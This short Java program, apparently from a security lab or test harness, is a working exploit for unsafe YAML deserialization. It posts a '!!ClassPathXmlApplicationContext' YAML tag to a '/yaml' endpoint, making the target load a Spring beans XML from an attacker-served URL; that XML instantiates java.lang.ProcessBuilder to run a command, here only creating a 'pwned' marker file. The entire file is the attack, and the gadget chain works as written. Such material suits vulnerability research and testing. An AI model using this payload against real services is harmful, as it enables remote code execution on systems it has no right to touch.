import java.util.Map;
import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    String xml =
        "<beans xmlns='http://www.springframework.org/schema/beans'"
            + " xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'"
            + " xsi:schemaLocation='http://www.springframework.org/schema/beans"
            + " http://www.springframework.org/schema/beans/spring-beans.xsd'>"
            + "<bean class='java.lang.ProcessBuilder' init-method='start'><constructor-arg><list>"
            + "<value>touch</value><value>"
            + Attacker.WORK
            + "/pwned</value></list></constructor-arg></bean></beans>";
    Attacker.serve(Map.of("/a.xml", xml.getBytes()));
    Attacker.post(
        "/yaml",
        "!!org.springframework.context.support.ClassPathXmlApplicationContext [\""
            + Attacker.WEB
            + "/a.xml\"]");
    Attacker.done();
  }
}
